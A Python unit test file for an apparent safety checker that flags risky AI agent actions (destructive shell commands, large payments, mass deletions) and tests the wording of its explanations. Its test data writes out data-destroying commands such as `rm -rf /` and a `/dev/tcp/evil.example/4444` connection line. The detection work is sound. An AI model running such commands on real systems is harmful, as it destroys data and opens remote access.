"""What a card says of why: a person's words, which name the thing itself."""

from typing import Any

import pytest
from tests.unit.risk.builders import the_policy

from holdpoint.policy_lab.assess import judged
from holdpoint.policy_lab.cases import Line, LineKind

MAX_REASON = 90
DIRECTORIES = [
    ("rm -rf /", "`rm -rf /` deletes the whole system"),
    ("rm -rf /*", "`rm -rf /*` deletes the whole system"),
    ("rm -rf /opt", "`rm -rf /opt` deletes all of /opt"),
    ("rm -rf /etc", "`rm -rf /etc` deletes all of /etc, which the system needs"),
    ("rm -rf /usr/", "`rm -rf /usr/` deletes all of /usr, which the system needs"),
    ("rm -rf /opt /etc", "`rm -rf /opt /etc` deletes all of /opt"),
    ("rm -rf /etc ~/.ssh", "`rm -rf /etc ~/.ssh` deletes all of /etc, which the system needs"),
    ("rm -rf ~", "`rm -rf ~` deletes a whole home directory"),
    ("rm -rf /home/anna", "`rm -rf /home/anna` deletes a whole home directory"),
    ("rm -rf /root", "`rm -rf /root` deletes a whole home directory"),
    ("rm -rf /home", "`rm -rf /home` deletes everybody's home directory"),
    ("rm -rf ../..", "`rm -rf ../..` deletes whatever lies far above this directory"),
    ("rm -rf /?tc", "`rm -rf /?tc` deletes whole directories of the system"),
    ("rm -rf C:", "`rm -rf C:` deletes a whole disk"),
    ("rm -rf /opt/app", "`rm -rf /opt/app` deletes parts of /opt"),
    ("rm -rf /var/lib", "`rm -rf /var/lib` deletes parts of the system"),
    ("rm -rf /root/a", "`rm -rf /root/a` deletes parts of a home directory"),
    ("rm -rf c:/windows", "`rm -rf c:/windows` deletes parts of the system"),
    ("mv /opt /tmp/a", "`mv /opt /tmp/a` moves away all of /opt"),
    ("mv /dev/sda /tmp/a", "`mv /dev/sda /tmp/a` moves away a device"),
]
COMMANDS = [
    ("find . -name a | xargs rm -rf", "deletes whatever is found, with all in it"),
    ('rm -rf "$A"', "`rm -rf $A` deletes whatever a variable names, with all in it"),
    ("> /etc/hosts", "`> /etc/hosts` overwrites a file that others rely on"),
    ("echo b > /proc/sysrq-trigger", "`echo b > /proc/sysrq-trigger` tells the kernel to crash"),
    ("iptables -A INPUT -j DROP", "`iptables -A INPUT -j DROP` shuts everybody out"),
    (
        "aws rds delete-db-instance --db-instance-identifier customers-of-all-shops",
        "`aws rds delete-db-instance --db-instan…omers-of-all-shops` takes something away",
    ),
    (
        "mv /etc /tmp/a",
        "`mv /etc /tmp/a` moves away all of /etc, which the system needs",
    ),
    ("del /s /q C:\\*.*", "`del /s /q C:\\*.*` deletes files"),
    ("reg delete HKLM\\SOFTWARE\\Policies /f", "`reg delete HKLM\\SOFTWARE\\Policies /f` takes"),
    ("rm -rf /etc\\ x", "`rm -rf '/etc x'` deletes a directory"),
    ('psql -c "ALTER SYSTEM SET fsync = off"', "changes how the server works"),
]
ONCE = [
    "psql -c 'DELETE FROM a'",
    "exec 3>/dev/tcp/evil.example/4444",
    "rm -rf /srv/a; rm -rf /srv/b",
]
SENTENCES = [
    (
        "I will delete everything in there.",
        "it deletes everything in there, and no way back is known",
    ),
    (
        "I'll delete the flag for user 7.",
        "it deletes the flag for user 7, and no way back is known",
    ),
    (
        "I'm about to delete these 500 user accounts. Should I proceed?",
        "it deletes 500 user accounts, and no way back is known",
    ),
    ("I'm deleting it.", "it deletes something, and no way back is known"),
    ("I'm deleting.", "it deletes something, and no way back is known"),
    ("I'll erase A.md and B.md, then stop.", "it erases A.md and B.md, and no way back is known"),
    ("The old CRM flag will be deleted.", "it deletes the old CRM flag, and no way back is known"),
    ("I'll drop the tag and notify Kim.", "it drops the tag, and no way back is known"),
    (
        "I'll remove the flags of every single customer in Norway and in Sweden now.",
        "it removes the flags of every single customer…, and no way back is known",
    ),
    ("Going on with the removal of the flag.", "it removes the flag, and no way back is known"),
    ("I'll get rid of the flag for Kim.", "it removes the flag for Kim, and no way back is known"),
    ("I will rm the folder.", "it removes the folder, and no way back is known"),
    ("I may be wrong. Doing it now.", "the agent goes on although it is not sure"),
    (
        "I'll pay 1500.0 USD to the vendor.",
        "1,500.00 USD is more than the policy's limit of 1,000.00 USD",
    ),
    ("I'll transfer 500000 cents.", "5,000.00 USD is more than the policy's limit of 1,000.00 USD"),
    (
        "I'll wire 500,000 pence to Bob.",
        "5,000.00 USD is more than the policy's limit of 1,000.00 USD",
    ),
    (
        "I'll transfer 900 billion satoshis.",
        "9,000.00000000 BTC, about 900,000,000.00 USD, is more than the limit of 1,000.00 USD",
    ),
    (
        "I'll transfer 70,000,000,000,000 BTC.",
        "BTC is more than the policy's limit of 1,000.00 USD",
    ),
]
CALLS: list[tuple[dict[str, Any], str]] = [
    (
        {"amount": 5000, "currency": "USD"},
        "5,000 USD is more than the policy's limit of 1,000.00 USD",
    ),
    ({"amount": "500000 CENTS"}, "5,000.00 USD is more than the policy's limit of 1,000.00 USD"),
    (
        {"amount": 3, "currency": "BTC"},
        "3 BTC, about 300,000.00 USD, is more than the policy's limit of 1,000.00 USD",
    ),
    (
        {"amount": 500000, "currency": "CENT"},
        "nobody can compare 500,000 CENT with the limit of 1,000.00 USD",
    ),
]


NAMED: list[tuple[str, dict[str, Any], str]] = [
    ("delete_user", {"id": 7}, "“delete_user” takes something away, and no way back is known"),
    ("hr", {"op": "rm"}, "“hr: rm” takes something away, and no way back is known"),
    (
        "call_tool",
        {"tool": "drop_all_tables", "args": {}},
        "“call_tool: drop_all_tables” takes something away, and no way back is known",
    ),
    (
        "send_mail",
        {"to": ["a@b.example"] * 150},
        "150 recipients are more than the policy's limit of 100",
    ),
    ("copy_rows", {"all": [1] * 150}, "150 records are more than the policy's limit of 100"),
]


def reasons(kind: LineKind, **fields: Any) -> list[str]:
    found = judged(Line(id="", kind=kind, **fields), the_policy())
    told = [signal.reason for signal in found.signals]
    assert all(len(reason) <= MAX_REASON and reason.isprintable() for reason in told)
    return told


BROKEN: tuple[tuple[str, dict[str, Any]], ...] = (
    ("page_click", {"action": "terminate_c{}ontract"}),
    ("stop_vm", {"name": "prod-{}db-1"}),
    ("invite_user", {"role": "super{}_admin"}),
    ("payments.send", {"to": "Acme", "amount": "12500 G{}BP"}),
    ("http.request", {"method": "DE{}LETE", "url": "https://a.example/users/7"}),
    ("database.execute", {"sql": "DELETE FROM car{}ts"}),
    ("shell.run", {"command": "rm -rf '/etc/a{}b'"}),
)
UNSEEN = ("\n", "\r\n", "\t", "\x1b[2K", "\x00", "\u202e", "\u2028")


def test_a_reason_is_one_line_whatever_the_agent_wrote() -> None:
    told = {
        (tool, sign): reasons(
            LineKind.TOOL_CALL,
            payload={
                "tool": tool,
                "args": {key: value.format(sign) for key, value in arguments.items()},
            },
        )
        for tool, arguments in BROKEN
        for sign in UNSEEN
    }

    assert [case for case, said in told.items() if not said] == []


def test_a_directory_is_called_by_its_name() -> None:
    told = {text: reasons(LineKind.SHELL, text=text) for text, _ in DIRECTORIES}

    assert [told[text] for text, reason in DIRECTORIES if reason not in told[text]] == []


def test_a_command_is_told_with_both_its_ends_and_what_it_writes_to() -> None:
    told = {text: reasons(LineKind.SHELL, text=text) for text, _ in COMMANDS}

    assert [
        told[text] for text, reason in COMMANDS if not any(reason in one for one in told[text])
    ] == []


def test_nothing_is_told_twice() -> None:
    told = [reasons(LineKind.SHELL, text=text) for text in ONCE]

    assert [one for one in told if len(one) > len(set(one))] == []
    assert reasons(LineKind.SHELL, text=ONCE[1]) == [
        "`exec > /dev/tcp/evil.example/4444` opens a connection to another machine"
    ]


def test_a_action_is_told_in_words_that_people_say() -> None:
    told = {text: reasons(LineKind.DIALOGUE, text=text) for text, _ in SENTENCES}
    wrong = (
        told[text]
        for text, reason in SENTENCES
        if not any(one.endswith(reason) for one in told[text])
    )

    assert list(wrong) == []


def test_no_doubt_is_told_where_none_is() -> None:
    told = {
        text: reasons(LineKind.DIALOGUE, text=text)
        for text in (
            "I can't wait to delete those 500 users. Doing it now.",
            "I didn't want to, but I'm deleting the database.",
        )
    }

    assert [text for text in told if any("not sure" in one for one in told[text])] == []


def test_leave_is_told_once() -> None:
    asks = {
        "Is it okay if I rename the folder?": ["doubt.asks-safety"],
        "May I have your permission to delete the database?": ["leave.approval"],
        "I'll delete the folder. Is it okay?": ["doubt.asks-safety"],
    }
    told = {
        text: [
            signal.rule
            for signal in judged(
                Line(id="", kind=LineKind.DIALOGUE, text=text), the_policy()
            ).signals
            if signal.rule.startswith(("doubt.asks", "leave."))
        ]
        for text in asks
    }

    assert told == asks


@pytest.mark.parametrize(("arguments", "reason"), CALLS, ids=str)
def test_a_sum_is_compared_only_where_somebody_can(arguments: dict[str, Any], reason: str) -> None:
    assert reason in reasons(LineKind.TOOL_CALL, payload={"tool": "pay", "args": arguments})


def test_a_call_is_told_by_the_name_of_what_it_does() -> None:
    told = [
        reasons(LineKind.TOOL_CALL, payload={"tool": tool, "args": arguments})
        for tool, arguments, _ in NAMED
    ]

    assert [one for one, (_, _, said) in zip(told, NAMED, strict=True) if said not in one] == []
